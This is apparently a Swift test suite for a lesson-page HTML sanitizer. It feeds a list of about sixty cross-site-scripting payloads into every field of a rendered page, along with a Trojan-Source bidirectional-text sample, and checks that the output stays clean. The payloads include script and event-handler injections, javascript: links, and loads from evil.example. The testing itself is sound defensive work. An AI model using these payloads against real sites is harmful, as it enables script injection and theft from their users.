// Nothing that a lesson, a step or a value holds can run, load or reach the page's own markup.

import LessonModel
import Testing

@testable import Pages

private let attacks = [
  "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
  "<img src=\"https://evil.example/x.png\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
  "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><image href=\"https://evil.example/\"/></svg>",
  "<svg><rect fill=\"url(https://evil.example/#x)\"/></svg>", "<svg><rect fill=\"u\\72l(//evil.example)\"/></svg>",
  "<svg><rect fill=\"&#117;rl(//evil.example)\"/></svg>", "<svg><style>@import '//evil.example';</style></svg>",
  "<style>body{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example>",
  "<iframe srcdoc=\"<script>1</script>\">",
  "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
  "<a href=\"java\nscript:alert(1)\">x</a>",
  "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
  "<a href=data:text/html,x>x</a>",
  "<a href='vbscript:x'>x</a>", "<div style=\"background:url(//evil.example)\">x</div>", "<p style='x:expression(1)'>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<form action=//evil.example><input name=x><button>go",
  "<textarea><img src=x onerror=alert(1)></textarea>", "<title></title><script>alert(1)</script>", "<plaintext>",
  "</main></body></html><script>alert(1)</script>", "--><script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php <img src=x onerror=alert(1)> ?>", "<div/onclick=alert(1)>x",
  "<img/src=x/onerror=alert(1)>",
  "<a\u{0c}href=javascript:alert(1)>x</a>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "<", "</",
  "<a", "<a b=\"",
  "<x onmouseover=alert(1)>x</x>", "<div class=\"step banner lk-ok\">x</div>", "<b id=\"step:1\">x</b>",
  "<input autofocus onfocus=alert(1)>",
  "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<object data=//evil.example>",
  "<embed src=//evil.example>",
  "<video><source onerror=alert(1)></video>", "<details ontoggle=alert(1) open>x</details>",
  "<table background=//evil.example><td>x",
  "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg></p><img src=x onerror=alert(1)>",
  "<b><i></b></i></div></section>",
]

@Suite struct SafetyTests {
  @Test(arguments: attacks, [false, true]) func everywhere(_ attack: String, rawHTML: Bool) {
    let page = page(hostileRun(attack, rawHTML: rawHTML), options: PageOptions(showsTimings: true))
    #expect(PageCheck(page).problems == [])
  }

  @Test func allAttacksInARow() {
    let attack = attacks.joined(separator: "\n")
    for rawHTML in [false, true] { #expect(PageCheck(page(hostileRun(attack, rawHTML: rawHTML))).problems == []) }
  }

  @Test func sampleIsWellFormedAndLinked() {
    let check = PageCheck(page(sampleRun, options: PageOptions(showsTimings: true), assets: ["dot.png": dotPNG]))
    #expect(check.problems == [])
    #expect(check.anchorProblems == [])
    #expect(!check.elements.contains { $0.name == "script" })
  }

  @Test func rawHTMLIsTextUnlessAllowed() {
    let blocks = [block(.paragraph([.html("<b>"), .text("x"), .html("</b>")])), block(.html("<hr>\n"))]
    let shown = page(run(blocks))
    #expect(shown.contains("<p>&lt;b&gt;x&lt;/b&gt;</p>"))
    let allowed = page(run(blocks, rawHTML: true))
    #expect(allowed.contains("<p><b>x</b></p>"))
    #expect(allowed.contains("<hr />"))
  }

  @Test func rawElementsEndWithTheirBlock() {
    let blocks = [
      block(
        .blockQuote([
          block(.html("<details><summary>More</summary>\n")), block(.paragraph([.html("<i>"), .text("a")])),
        ])),
      block(.paragraph([.html("</details>"), .text("b")])),
    ]
    let page = page(run(blocks, rawHTML: true))
    #expect(page.contains("<p><i>a</i></p>\n</details>"))
    #expect(page.contains("<p>b</p>"))
    #expect(PageCheck(page).problems == [])
  }

  @Test func displaysKeepTheirClassesOnly() {
    let html = "<table class=\"lk-table step\"><tr><td class=lk-number colspan=2>1 &lt; 2 &amp; 3 & 4</td></tr></table>"
    #expect(
      Sanitizer.displayMarkup(html).string
        == "<table class=\"lk-table\"><tr><td class=\"lk-number\" colspan=\"2\">1 &lt; 2 &amp; 3 &amp; 4</td></tr></table>"
    )
  }

  @Test func svgKeepsItsDrawing() {
    let svg =
      "<svg viewBox=\"0 0 9 9\" role=\"img\"><title>T</title><path d=\"M0 0\" stroke=\"currentColor\"/><text>a</text></svg>"
    #expect(
      Sanitizer.displayMarkup(svg).string
        == "<svg role=\"img\" viewBox=\"0 0 9 9\"><title>T</title><path d=\"M0 0\" stroke=\"currentColor\" /><text>a</text></svg>"
    )
  }

  @Test func unsafeLinksAreText() {
    let inlines: [Inline] = [
      .link(destination: "javascript:alert(1)", title: nil, [.text("x")]),
      .link(destination: "https://a.example/?b=1&c", title: nil, [.text("y")]),
    ]
    #expect(
      ProseWriter.html([block(.paragraph(inlines))], rawHTML: false)
        == "<p>x<a href=\"https://a.example/?b=1&amp;c\">y</a></p>\n")
  }

  @Test func deepNestingEnds() {
    let html = String(repeating: "<div><b>", count: 20_000)
    #expect(PageCheck("<p>" + Sanitizer.displayMarkup(html).string + "</p>").problems == [])
  }

  @Test func bidirectionalControlsAreShown() {
    let code = "let isAdmin = false /*\u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */\n"
    let page = page(run([block(.step(0))], steps: [Step(index: 1, fenceLine: 1, code: code)]))
    #expect(
      !page.unicodeScalars.contains { (0x202a...0x202e).contains($0.value) || (0x2066...0x2069).contains($0.value) })
    #expect(page.contains("U+202E"))
  }
}

// MARK: Runs

func run(
  _ blocks: [Block], steps: [Step] = [], outcomes: [StepOutcome] = [], rawHTML: Bool = false,
  source: SourceText = SourceText(fileName: "a.md", lines: [])
) -> LessonRun {
  var front = FrontMatter()
  front.rawHTML = rawHTML
  return LessonRun(
    lesson: Lesson(source: source, frontMatter: front, title: "T", blocks: blocks, steps: steps), outcomes: outcomes)
}

/// A run with a hostile text in every place that can hold one.
private func hostileRun(_ attack: String, rawHTML: Bool) -> LessonRun {
  var options = StepOptions()
  (options.label, options.figCap, options.figAlt, options.codeSummary) = (attack, attack, attack, attack)
  options.codeFold = .show
  let bytes = Array(attack.utf8)
  let place = position(1, 2)
  let note = Diagnostic(.error, id: attack, attack, at: SourceSpan(at: place), hint: attack)
  let outcome = StepOutcome(
    status: .error,
    outputs: [.stdout(attack), .stderr("\u{1b}[31m" + attack), .display(MIMEBundle(["text/plain": bytes]))]
      + ["text/html", "image/svg+xml", "image/png"].map { .display(MIMEBundle(["text/plain": bytes, $0: bytes])) },
    warnings: [note], error: StepError(.thrown, type: attack, attack, at: place, notes: [note]),
    skippedBecause: attack, defaultDType: attack, timing: .init(build: 1, run: 2))
  let step = Step(index: 1, fenceLine: 1, code: attack, options: options)
  var result = run(
    hostileBlocks(attack), steps: [step], outcomes: [outcome], rawHTML: rawHTML,
    source: SourceText(fileName: attack, lines: [attack, attack]))
  result.lesson.title = attack
  result.lesson.frontMatter.subtitle = attack
  result.lesson.frontMatter.description = attack
  result.lesson.frontMatter.authors = [attack]
  result.lesson.frontMatter.lang = attack
  result.lesson.footnotes = [Footnote(name: attack, blocks: [block(.html(attack))], referenceCount: 1)]
  result.notices = [attack]
  return result
}

private func hostileBlocks(_ attack: String) -> [Block] {
  let inlines: [Inline] = [
    .text(attack), .code(attack), .html(attack), .link(destination: attack, title: attack, [.html(attack)]),
    .image(source: attack, title: attack, alt: attack), .footnoteReference(number: 1, occurrence: 1),
  ]
  return [
    block(.heading(level: 2, inlines)), block(.heading(level: 3, inlines)), block(.paragraph(inlines)),
    block(.html(attack)),
    block(.code(info: attack, attack)), block(.alert(.note, [block(.html(attack))])),
    block(
      .list(
        List(start: 1, isTight: true, items: [List.Item(blocks: [block(.paragraph(inlines)), block(.html(attack))])]))),
    block(.table(Table(alignments: [nil], header: [inlines], rows: [[inlines]]))), block(.step(0)),
  ]
}
